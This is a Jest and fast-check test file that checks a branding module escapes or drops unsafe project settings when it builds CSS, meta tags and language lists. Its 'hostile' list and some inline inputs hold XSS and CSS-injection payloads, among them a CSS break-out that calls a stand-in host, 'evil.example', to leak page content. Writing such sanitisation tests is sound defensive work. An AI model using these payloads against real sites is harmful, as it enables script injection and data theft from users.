/** @jest-environment node */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'

import fc from 'fast-check'

import { accountLanguages, firstLanguage, offeredLanguages } from './languages'
import { brandMeta, pageBranding } from './page-branding'

const colours = { brand_500: '#6d28d9', ax_background_default: '#faf7ff' }

test('uses the shell’s appearance and the project’s slug as name if there is no branding', () => {
  expect(pageBranding('calm-river', undefined)).toEqual({
    stylesheet: '',
    night: '',
    icons: '',
    brand: { name: 'Calm river' },
    languages: undefined,
  })
})

test('passes a valid minimum password length to the screens', () => {
  const lengthOf = (min_password_length: unknown) => pageBranding('shop', { min_password_length }).brand.passwordLength
  expect([12, 1, 8.5, '8', '"><script>', undefined].map(lengthOf)).toEqual(['12', ...Array<undefined>(5)])
})

test('turns colors into custom properties for light and dark mode', () => {
  const { stylesheet } = pageBranding('shop', { theme_variables_light: colours })
  expect(stylesheet).toContain(':root:root{--a-canvas:#faf7ff;')
  expect(stylesheet).toContain('--a-fill:#6d28d9;')
  expect(stylesheet).toContain(":root:root[data-theme='dark']{")
  expect(stylesheet).toContain('html{background:var(--a-canvas,#faf7ff)}')
})

test('colors for dark mode alone leave light mode unchanged', () => {
  const { stylesheet } = pageBranding('shop', { theme_variables_dark: { ax_background_default: '#101020' } })
  expect(stylesheet).not.toContain(':root:root{')
  expect(stylesheet).toContain('@media(prefers-color-scheme:dark){:root:root:not([data-theme]){--a-canvas:#101020;}}')
})

test('uses a known font by its name, and ignores other values', () => {
  const named = (font_stack: string) => pageBranding('shop', { theme_variables_light: { font_stack } }).stylesheet
  expect(named('slab')).toMatch(/^:root:root \[data-surface='account'\]\{--a-sans:Rockwell, .*serif;\}$/)
  expect(named('x;}body{display:none')).toBe('')
  expect(named('constructor')).toBe('')
})

test('applies corners, logos, icons and switches', () => {
  const page = pageBranding('shop', {
    name: 'Shop & <Co>',
    theme_variables_light: { border_radius_general: '3px', border_radius_cards: '0' },
    logo_light: 'https://cdn.example/a.png?x=1&y="2"',
    logo_dark: '/dark.svg',
    favicon_light: '/light.ico',
    favicon_dark: '/dark.ico',
    disable_welcome_screen: true,
    hide_registration_link: true,
  })
  expect(page.stylesheet).toBe(":root:root [data-surface='account']{--a-radius:3px;--a-radiusCard:0px;}")
  expect(page.brand).toMatchObject({ logoDark: '/dark.svg', welcome: 'off' })
  expect(brandMeta(page.brand)).toBe(
    '<meta name="atrium-brand" content="Shop &#38; &#60;Co&#62;" data-logo="https://cdn.example/a.png?x=1&#38;y=%222%22" data-logo-dark="/dark.svg" data-welcome="off" data-registration="off">',
  )
  expect(page.icons).toBe(
    '<link rel="icon" href="/light.ico" media="(prefers-color-scheme: light)"><link rel="icon" href="/dark.ico" media="(prefers-color-scheme: dark)">',
  )
})

const hostile = [
  '</style><script>alert(1)</script>',
  'url(javascript:alert(1))',
  'expression(alert(1))',
  '#fff;} body{background:url(https://evil.example/?',
  '"><img src=x onerror=alert(1)>',
  "';--a-text:red",
  '\u2028\u0000',
  '#'.repeat(200_000),
]

test('writes only known properties, colors and escaped text, whatever a project sets', () => {
  const value = fc.oneof(fc.constantFrom(...hostile), fc.string(), fc.constantFrom('#fff', '/x.png', 'de', '4px'))
  const variables = fc.dictionary(
    fc.oneof(fc.constantFrom('brand_500', 'ax_background_default', 'border_radius_cards'), value),
    value,
  )
  const document = fc.record({
    name: value,
    theme_variables_light: fc.oneof(value, variables),
    theme_variables_dark: variables,
    logo_light: value,
    favicon_light: value,
    default_locale: value,
    enabled_locales: fc.oneof(value, fc.array(value)),
  })
  const property = String.raw`--a-\w+:(?:#[0-9a-f]{6}|rgb\([\d ./]+\)|\d+(?:\.\d+)?px);`
  const rule = String.raw`(?::root:root(?:\[data-theme='dark'\])?(?: \[data-surface='account'\])?\{(?:${property})+\}|html\{background:var\(--a-canvas,#[0-9a-f]{6}\)\}|@media\(prefers-color-scheme:dark\)\{:root:root:not\(\[data-theme\]\)\{--a-canvas:#[0-9a-f]{6};\}\})`
  const attributes = String.raw`(?: [a-z-]+="[^"<>]*")*`
  const only = {
    stylesheet: new RegExp(`^(?:${rule})*$`),
    icons: new RegExp(`^(?:<link${attributes}>)*$`),
    meta: new RegExp(`^<meta${attributes}>$`),
  }
  fc.assert(
    fc.property(document, (any) => {
      const { stylesheet, icons, brand, languages = [] } = pageBranding('shop', any)
      expect(stylesheet).toMatch(only.stylesheet)
      expect(icons).toMatch(only.icons)
      expect(brandMeta(brand)).toMatch(only.meta)
      expect(languages.every((locale) => accountLanguages.some((known) => known === locale))).toBe(true)
    }),
    { numRuns: 300 },
  )
})

describe('languages', () => {
  const localeSettings = { enabledLocales: [], forceDefaultLocale: false }

  test('are those that the account experience supports', () => {
    const source = readFileSync(join(__dirname, '../../../../packages/shared/src/text/locale.ts'), 'utf8')
    const [, list = ''] = /accountLanguages: readonly Locale\[\] = \[([^\]]*)\]/.exec(source) ?? []
    expect(list.split(',').map((part) => part.trim().replaceAll("'", ''))).toEqual([...accountLanguages])
  })

  test.each([
    [localeSettings, undefined],
    [{ ...localeSettings, defaultLocale: 'en' }, undefined],
    [{ ...localeSettings, defaultLocale: 'de', enabledLocales: ['fr', 'de'] }, ['de', 'fr']],
    [{ ...localeSettings, enabledLocales: ['fr', 'ja'] }, ['fr']],
    [{ ...localeSettings, enabledLocales: ['ja'] }, ['en']],
    [{ ...localeSettings, defaultLocale: 'de', enabledLocales: ['fr'] }, ['de', 'fr']],
    [{ ...localeSettings, defaultLocale: 'pl', forceDefaultLocale: true }, ['pl']],
    [{ ...localeSettings, defaultLocale: 'ja', forceDefaultLocale: true }, ['en']],
  ])('of %j are %j', (settings, offered) => expect(offeredLanguages(settings)).toEqual(offered))

  test.each([
    ['fr-CA, de;q=0.8', 'fr'],
    ['de;q=0.3, fr;q=0.9', 'fr'],
    ['ja, *;q=0.1', 'en'],
    ['de;q=0', 'en'],
    [undefined, 'en'],
    ['"><script>', 'en'],
  ])('for %j the page starts in %s', (request, language) =>
    expect(firstLanguage(['en', 'de', 'fr'], request)).toBe(language),
  )
})
